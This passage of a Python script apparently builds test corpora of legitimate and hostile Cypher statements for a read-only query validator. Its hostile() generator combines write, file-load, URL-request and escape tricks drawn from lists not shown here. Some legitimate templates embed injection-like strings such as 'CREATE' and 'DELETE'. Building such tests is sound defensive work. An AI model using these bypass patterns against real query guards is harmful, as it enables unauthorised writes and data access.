MATCH (r:Run) RETURN r {{.*}}, datetime.truncate('day', datetime('2026-01-0{n}T10:00:00Z')) AS day
RETURN date('2026-01-0{n}') + duration('P1M') AS d, localdatetime('2026-01-01T00:00') AS l, time('12:0{n}') AS t
RETURN point.distance(point({{x: 0, y: {n}}}), point({{x: 3, y: 4}})) AS d, point.withinBBox(point({{x: 1, y: 1}}), point({{x: 0, y: 0}}), point({{x: 2, y: 2}})) AS inside
RETURN vector.similarity.cosine([1.0, {n}.0], [0.5, 0.5]) AS c, vector.similarity.euclidean([1.0], [{n}.0]) AS e
RETURN reduce(s = 0, x IN range(1, {n}0) | s + x) AS total, [x IN range(1, 9) WHERE x % 2 = 0 | x * x] AS squares
RETURN all(x IN [1, {n}] WHERE x > 0) AS a, any(x IN [1] WHERE x > {n}) AS b, none(x IN [] WHERE x) AS c, single(x IN [1] WHERE x = 1) AS d
RETURN split('{word},b', ',') AS parts, trim('  x ') AS t, substring('{word}', 1, 2) AS s, replace('{word}', 'l', 'r') AS r, toUpper('set') AS u
RETURN 1.0e{n} AS a, 0x{n}F AS b, 0o17 AS c, -1 AS d, pi() AS e, sqrt({n}) AS f, {n} ^ 2 AS g, log({n}) AS h, rand() >= 0 AS r
RETURN 'It\'s {word}' AS a, "say \"DELETE\" \\" AS b, 'line\nbreak; CREATE (n)' AS c, 'µ\u00b5' AS d
MATCH (n) RETURN labels(n) AS labels, count(*) AS n ORDER BY n DESC LIMIT {n}
MATCH ()-[r]->() RETURN type(r) AS relation, count(*) AS n ORDER BY n DESC SKIP {n} LIMIT 10
CALL db.labels() YIELD label WHERE label STARTS WITH 'C' RETURN label, {n} AS n
CALL db.relationshipTypes() YIELD relationshipType AS t RETURN t ORDER BY t LIMIT {n}
CALL db.propertyKeys() YIELD propertyKey RETURN count(propertyKey) + {n} AS keys
CALL db.schema.nodeTypeProperties() YIELD nodeType, propertyName RETURN nodeType, collect(propertyName) AS names LIMIT {n}
CALL db.schema.visualization() YIELD nodes, relationships RETURN size(nodes), {n}
CALL dbms.components() YIELD name, versions, edition RETURN name, versions[0], edition, {n} AS n
CALL () {{ MATCH (c:Concept) RETURN c.name AS name LIMIT {n} UNION MATCH (i:Image) RETURN i.id AS name LIMIT {n} }} RETURN name
MATCH (a:Concept)-[:isa]->(b:Concept) WHERE NOT EXISTS {{ (b)-[:isa]->() }} RETURN b.name, count(a) AS n ORDER BY n DESC LIMIT {n}
MATCH (c:Concept) WHERE NOT (c)--(:Concept) RETURN c.name LIMIT {n}
MATCH (a:Image {{id: 'I50978146'}})-[:POSITIVE]->(c)<-[:POSITIVE]-(b:Image) WITH a, b, count(c) AS shared ORDER BY shared DESC, b.id LIMIT {n} RETURN b.id, shared
MATCH (i:Image {{id: 'I50978146'}})-[r]->(c:Concept) WITH collect({{stance: type(r), name: c.name}}) AS pairs RETURN pairs[0..{n}] AS some, size(pairs) AS n
MATCH (i:Image) WHERE i.id IN ['I50978146', 'I58123117'] RETURN i.id, i.naf / {n} AS part
MATCH (a:Concept), (b:Concept) WHERE a.cui = 'C0004144' AND b.cui = 'C0032285' OPTIONAL MATCH p = (a)-[*1..2]-(b) RETURN count(p) > {n} AS linked
PREDICATE
""".strip("\n").splitlines()[:-1]


def hostile() -> list[str]:
    """Statements that write, administrate, read files, send requests or get round the checks."""
    writes = [
        template.format(w=clause)
        for template_index, template in enumerate(POSITIONS)
        for filler_index, clause in enumerate(WRITES)
        if (template_index + filler_index) % 5 == 0
    ]
    loads = [
        template.format(url=address)
        for template_index, template in enumerate(LOADS)
        for filler_index, address in enumerate(URLS)
        if (template_index + filler_index) % 2 == 0
    ]
    calls = [
        template.format(p=procedure) for template, procedure in zip(itertools.cycle(CALLS), PROCEDURES, strict=False)
    ]
    standalone = [*STANDALONE, *SCHEMA, *SHOWS, *LOAD_TRICKS, *CALL_TRICKS, *PREFIXES, *ESCAPES, *ODD_CHARACTERS]
    return list(dict.fromkeys([*standalone, *calls, *loads, *writes]))


def legitimate() -> list[str]:
    """Reads of the platform's graph as researchers write them."""
    combinations = itertools.product(range(6), READS)
    statements = (
        template.format(cui=CONCEPTS[index], word=WORDS[index], n=index + 2) for index, template in combinations
    )
    return list(dict.fromkeys(statements))


def write_cypher_corpora() -> None:
    for corpus_name, statements in (("hostile", hostile()), ("legitimate", legitimate())):
        if len(statements) < SIZE:
            raise SystemExit(f"{corpus_name}: only {len(statements)} different statements")
        corpus_text = "".join(statement.replace("\n", "⏎") + "\n" for statement in statements[:SIZE])
        HERE.joinpath(f"{corpus_name}_cypher.txt").write_bytes(corpus_text.encode())  # bytes: a lone \r stays one


if __name__ == "__main__":
    write_cypher_corpora()
